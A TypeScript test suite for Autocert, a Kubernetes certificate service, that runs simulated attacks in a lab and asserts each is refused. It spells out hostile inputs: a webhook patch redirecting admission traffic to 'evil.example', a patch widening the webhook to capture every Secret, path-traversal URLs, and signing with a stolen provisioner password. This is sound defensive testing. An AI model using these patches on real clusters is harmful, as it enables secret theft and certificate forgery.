/**
 * Attacks on Autocert itself: the CA and its ports, secrets, accounts, what is disclosed to whoever asks.
 * @module
 */
import assert from 'node:assert/strict';
import { X509Certificate } from 'node:crypto';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { Annotation, PkiFile, PkiObject, RENEWALS_CONFIG_MAP, WebhookPath } from '../../../runtime/contract.ts';
import { splitPem } from '../../../runtime/x509/certificate.ts';
import type { Kubectl } from '../../../scripts/cluster/kubectl.ts';
import { type Result, tryRun, waitFor } from '../../../scripts/cluster/shell.ts';
import { testPod } from '../../../scripts/cluster/workloads.ts';
import { reviewOf } from '../../support/reviews.ts';
import { allowNames } from '../allowed-names.ts';
import { SYSTEM } from '../context.ts';
import { FORWARDED_CA, whileForwarded } from '../steps/outside.ts';
import type { Attack, Attacker, Defence } from './attack.ts';
import { ATTACK_NAMESPACES, firstLine, type Lab } from './lab.ts';

const { victim: VICTIM } = ATTACK_NAMESPACES;
/** Of all that is nobody's outside. */
const FOREIGN = 'login.bank.example';

/**
 * A port that is closed to the tenant's pod: no answer, and the network counts what it has refused. It is tried again where it has
 * counted nothing: kube-router writes its table anew when pods come or go, and the counters begin at zero.
 */
async function closed(lab: Lab, urls: readonly string[]): Promise<Defence> {
  const { answer, trace } = await waitFor('the network to count what it refuses', async () => {
    const before = await lab.refusedPackets();
    for (const url of urls) {
      const { status, body } = await lab.curl(url);
      // Nothing that another try could make good.
      if (status !== 0) return { answer: `${url} answered ${status}: ${body.slice(0, 200)}`, trace: '' };
    }
    const after = await lab.refusedPackets();
    if (before === undefined || after === undefined) return { trace: 'the log of the cluster’s network' };
    return after > before && { trace: `iptables: packets refused +${after - before}` };
  });
  assert.equal(answer, undefined);
  return { happened: 'no answer', trace };
}

const podUrls = async (lab: Lab, app: string, scheme: string, ports: readonly number[]) => {
  const pods = await lab.admin.pods(SYSTEM, `app=${app}`);
  return pods.flatMap(({ status }) => ports.map((port) => `${scheme}://${status.podIP}:${port}/metrics`));
};

/** What an account is refused, as whoever has stolen its token. */
function byAccount(
  id: string,
  account: string,
  name: string,
  args: readonly string[],
  who: Attacker = 'account',
): Attack {
  return {
    id,
    name,
    who,
    expected: 'refused',
    run: (lab) => lab.forbidden(() => lab.admin.try([...args, `--as=system:serviceaccount:${SYSTEM}:${account}`])),
  };
}

const REGISTRATION = ['patch', 'mutatingwebhookconfiguration', 'autocert', '--type=json', '--dry-run=server', '-p'];
const SENT_ELSEWHERE = JSON.stringify([
  { op: 'add', path: '/webhooks/0/clientConfig/url', value: 'https://evil.example' },
  { op: 'remove', path: '/webhooks/0/clientConfig/service' },
]);
const ALL_SECRETS = JSON.stringify([
  { op: 'replace', path: '/webhooks/0/rules/0/resources', value: ['secrets'] },
  { op: 'replace', path: '/webhooks/0/namespaceSelector', value: {} },
]);

/** Has the CA sign with the stolen password of a provisioner. */
async function signWith(lab: Lab, provisioner: string, secret: string, name: string): Promise<Result> {
  const { scratch, step, inNetwork } = lab.context;
  const file = (suffix: string) => join(scratch, `stolen.${suffix}`);
  const password = await lab.admin.run(['-n', SYSTEM, 'get', 'secret', secret, '-o', 'jsonpath={.data.password}']);
  writeFileSync(file('password'), Buffer.from(password, 'base64'), { mode: 0o600 });
  const { data } = await lab.admin.json<{ data: Record<string, string> }>([
    '-n',
    SYSTEM,
    'get',
    'configmap',
    PkiObject.certificates,
  ]);
  // step takes one root: that of the CA's own certificate.
  const [intermediate] = splitPem(data[PkiFile.intermediate] ?? '').map((pem) => new X509Certificate(pem));
  const roots = splitPem(data[PkiFile.root] ?? '');
  writeFileSync(file('root'), roots.find((pem) => intermediate?.verify(new X509Certificate(pem).publicKey)) ?? '');
  let result: Result | undefined;
  await whileForwarded(lab.admin, async () => {
    const ca = ['--ca-url', FORWARDED_CA, '--root', file('root')];
    const as = ['--provisioner', provisioner, '--provisioner-password-file', file('password')];
    const argv = [step, 'ca', 'certificate', name, file('crt'), file('key'), '--force', ...ca, ...as];
    result = await tryRun(inNetwork(argv), { cwd: scratch, env: { STEPPATH: file('steppath') } });
  });
  assert(result, 'step was run');
  return result;
}

/** Whoever holds the Lease is the signer that signs. */
function takesLease(lab: Lab, kubectl: Kubectl, holderIdentity: string): Promise<Defence> {
  const patch = JSON.stringify({ spec: { holderIdentity } });
  const args = ['-n', SYSTEM, 'patch', 'lease', 'autocert-signer', '--type=merge', '-p', patch];
  return lab.forbidden(() => kubectl.try(args));
}

/** All of them. */
export const systemAttacks: readonly Attack[] = [
  {
    id: 'ca-direct',
    name: 'connects to the CA',
    who: 'pod',
    ownNode: true,
    expected: 'closed by a NetworkPolicy',
    run: (lab) => closed(lab, [`https://ca.${SYSTEM}.svc/health`, `https://ca.${SYSTEM}.svc/1.0/sign`]),
  },
  {
    id: 'metrics',
    name: 'reads the metrics of CA, supervisor, webhook and signer',
    who: 'pod',
    ownNode: true,
    expected: 'closed by a NetworkPolicy',
    run: async (lab) => {
      const urls = [
        ...(await podUrls(lab, 'autocert', 'http', [9402])),
        ...(await podUrls(lab, 'autocert-signer', 'http', [9402])),
        ...(await podUrls(lab, 'ca', 'http', [9402, 9403, 9090, 9091])),
      ];
      return closed(lab, urls);
    },
  },
  {
    id: 'metrics-on-admission',
    name: 'asks the webhook’s port for metrics, for other paths and by other methods',
    who: 'pod',
    expected: '404: the port serves admission alone',
    run: async (lab) => {
      const statuses = [];
      for (const path of ['/metrics', '/healthz', '/debug', '/certificate', '/%2e%2e/metrics', '//metrics'])
        statuses.push((await lab.curl(`https://autocert.${SYSTEM}.svc${path}`)).status);
      assert(
        statuses.every((status) => status === 0 || (status >= 400 && status < 500)),
        statuses.join(),
      );
      return {
        happened: `answers ${[...new Set(statuses)].join(', ')}`,
        trace: 'nothing was asked that is told: no trace is wanted',
      };
    },
  },
  {
    id: 'mutate-by-pod',
    name: "asks POST /mutate itself what the neighbour's namespace may have",
    who: 'pod',
    expected: 'nothing of other namespaces’ allowedNames in the answer',
    run: async (lab) => {
      const since = new Date();
      const pod = testPod(VICTIM, 'probe', { annotations: { [Annotation.name]: FOREIGN } });
      const body = JSON.stringify(reviewOf(pod, { namespace: VICTIM }));
      const args = ['-X', 'POST', '-H', 'content-type: application/json', '--data-binary', '@-'];
      const { status, body: answer } = await lab.curl(
        `https://autocert.${SYSTEM}.svc${WebhookPath.mutate}`,
        args,
        body,
      );
      assert.doesNotMatch(answer, /secret\.example/);
      if (status === 0 || status >= 400)
        return { happened: `no answer (${status})`, trace: 'TLS: no client certificate of the API server' };
      return {
        happened: `${status}, without the patterns of the namespace`,
        trace: await lab.log('autocert', new RegExp(`"namespace":"${VICTIM}".*"result":"denied"`), since),
      };
    },
  },
  {
    id: 'renewal-info',
    name: 'asks /renewal-info for namespaces that are not its own, and for such as are none',
    who: 'pod',
    expected: 'roots and times, which are public; no name, no policy',
    run: async (lab) => {
      const url = (namespace: string) => `https://autocert.${SYSTEM}.svc:4444/renewal-info?namespace=${namespace}`;
      const { status, body } = await lab.curl(url(VICTIM));
      assert.equal(status, 200);
      const known = ['suggestedWindow', 'roots', 'anchors', 'replace', 'askAgainSeconds'];
      assert(
        Object.keys(JSON.parse(body) as object).every((key) => known.includes(key)),
        body.slice(0, 200),
      );
      assert.equal((await lab.curl(url('..%2F..'))).status, 400);
      return { happened: 'what is public; 400 for what is no namespace', trace: 'it is public: no trace is wanted' };
    },
  },
  {
    id: 'provisioner-stolen',
    name: `has the CA sign ${FOREIGN} and the API server's name with the password of the provisioner autocert`,
    who: 'thief',
    expected: 'the CA itself refuses',
    run: async (lab) => {
      const since = new Date();
      for (const name of [FOREIGN, 'kubernetes.default.svc', `ca.${SYSTEM}.svc`]) {
        const { code, stderr } = await signWith(lab, 'autocert', PkiObject.autocertPassword, name);
        assert.notEqual(code, 0, `the CA signed ${name}`);
        assert.match(stderr, /is none that the provisioner autocert may have signed/, stderr);
      }
      return {
        happened: 'refused by step-ca',
        trace: await lab.log('ca', /(status=40[0-9]|"status":40[0-9]).*|.*sign.*40[0-9]/, since),
      };
    },
  },
  {
    id: 'secrets-by-tenant',
    name: "reads the Secrets and ConfigMaps of Autocert's namespace, lists pods there, and runs a command in the CA's pod",
    who: 'tenant',
    expected: 'refused by RBAC',
    run: async (lab) => {
      const tries = [
        ['get', 'secret', PkiObject.rootKey],
        ['get', 'secrets'],
        ['get', 'configmap', RENEWALS_CONFIG_MAP],
        ['get', 'pods'],
        ['exec', 'ca-0', '--', 'true'],
      ];
      for (const args of tries.slice(1)) await lab.forbidden(() => lab.tenant.try(['-n', SYSTEM, ...args]));
      return lab.forbidden(() => lab.tenant.try(['-n', SYSTEM, ...(tries[0] ?? [])]));
    },
  },
  {
    id: 'renewals-by-tenant',
    name: 'has everybody renew at once, by the ConfigMap of renewals',
    who: 'tenant',
    expected: 'refused by RBAC',
    run: (lab) =>
      lab.forbidden(() =>
        lab.create(lab.tenant, {
          apiVersion: 'v1',
          kind: 'ConfigMap',
          metadata: { name: RENEWALS_CONFIG_MAP, namespace: SYSTEM },
          data: { _all: new Date().toISOString() },
        }),
      ),
  },
  {
    id: 'lease-by-tenant',
    name: "takes the signer's Lease, so that nobody signs",
    who: 'tenant',
    expected: 'refused by RBAC',
    run: (lab) => takesLease(lab, lab.tenant, 'mallory'),
  },
  {
    id: 'registration-by-tenant',
    name: "takes the webhook's registration and the admission policies away",
    who: 'tenant',
    expected: 'refused by RBAC',
    run: async (lab) => {
      await lab.forbidden(() => lab.tenant.try(['delete', 'mutatingwebhookconfiguration', 'autocert']));
      return lab.forbidden(() => lab.tenant.try(['delete', 'validatingadmissionpolicybinding', 'autocert']));
    },
  },
  {
    id: 'root-key-by-node',
    name: "reads the root's key with the node's credentials",
    who: 'node',
    ownNode: true,
    expected: 'refused: no pod on it mounts that Secret',
    run: (lab) => lab.forbidden(() => lab.node.try(['-n', SYSTEM, 'get', 'secret', PkiObject.rootKey])),
  },
  {
    id: 'lease-by-node',
    name: "takes the signer's Lease with the node's credentials",
    who: 'node',
    ownNode: true,
    expected: 'refused by NodeRestriction',
    run: (lab) => takesLease(lab, lab.node, 'node'),
  },
  byAccount('signer-url', 'autocert-signer', "has the webhook's requests sent to a server of its own", [
    ...REGISTRATION,
    SENT_ELSEWHERE,
  ]),
  byAccount('signer-rules', 'autocert-signer', 'has every Secret of the cluster sent to the webhook', [
    ...REGISTRATION,
    ALL_SECRETS,
  ]),
  byAccount('signer-secrets', 'autocert-signer', 'reads the Secrets of the cluster', ['get', 'secrets', '-A']),
  byAccount('webhook-secrets', 'autocert', 'reads the Secrets of the cluster', ['get', 'secrets', '-A']),
  byAccount('webhook-pods', 'autocert', 'lists all pods of the cluster', ['get', 'pods', '-A']),
  byAccount('init-registration', 'autocert-init', "changes the webhook's registration after the first run", [
    ...REGISTRATION,
    ALL_SECRETS,
  ]),
  byAccount('init-root-key', 'autocert-init', "reads the root's key after the first run", [
    '-n',
    SYSTEM,
    'get',
    'secret',
    PkiObject.rootKey,
  ]),
  byAccount('init-password', 'autocert-init', "reads the CA's password after the first run", [
    '-n',
    SYSTEM,
    'get',
    'secret',
    PkiObject.caPassword,
  ]),
  {
    id: 'signer-lease',
    name: 'creates Leases by which other controllers elect their leader',
    who: 'account',
    expected: 'refused',
    run: (lab) => {
      const lease = {
        apiVersion: 'coordination.k8s.io/v1',
        kind: 'Lease',
        metadata: { name: 'other', namespace: SYSTEM },
      };
      return lab.forbidden(() =>
        lab.create(lab.admin, lease, ['--dry-run=server', `--as=system:serviceaccount:${SYSTEM}:autocert-signer`]),
      );
    },
  },
  {
    id: 'signer-ca-bundle',
    name: "does what it is there for: changes the webhook's caBundle alone",
    who: 'account',
    expected: 'allowed: else it could not keep the bundle',
    run: async (lab) => {
      const patch = JSON.stringify([{ op: 'replace', path: '/webhooks/0/clientConfig/caBundle', value: '' }]);
      const { code, stderr } = await lab.admin.try([
        ...REGISTRATION,
        patch,
        `--as=system:serviceaccount:${SYSTEM}:autocert-signer`,
      ]);
      assert.equal(code, 0, stderr);
      return { happened: 'allowed (a dry run)', trace: 'audit log of the API server: patch by autocert-signer' };
    },
  },
  {
    id: 'keys-deleted',
    name: 'deletes the namespace with the keys by mistake',
    who: 'administrator',
    expected: 'refused, with what to do',
    run: (lab) => lab.forbidden(() => lab.admin.try(['delete', 'namespace', SYSTEM, '--wait=false']), /allow-deletion/),
  },
  {
    id: 'name-allowed-no-more',
    name: 'renews a name that the policy has ceased to allow',
    who: 'pod',
    expected: '403',
    run: async (lab) => {
      const namespace = ATTACK_NAMESPACES.tenant;
      const patient = { timeoutMs: 240_000, everyMs: 2000 };
      const takeAway = await allowNames(lab.admin, namespace, 'mallory.example');
      const name = lab.unique('allowed');
      const pod = lab.pod(name, { [Annotation.name]: `${name}.mallory.example`, [Annotation.delivery]: 'sidecar' });
      await waitFor('the name to be allowed', async () => (await lab.create(lab.tenant, pod)).code === 0, patient);
      await lab.admin.ready(namespace, `app=${name}`, patient);
      await takeAway();
      const since = new Date();
      const token = await lab.tokenOf(name);
      const answer = await lab.refusalOf(token, patient);
      assert.equal(answer.status, 403, answer.body);
      await lab.remove(name);
      return {
        happened: `403: ${firstLine(answer.body)}`,
        trace: await lab.log('autocert', /"msg":"no certificate"/, since),
      };
    },
  },
];
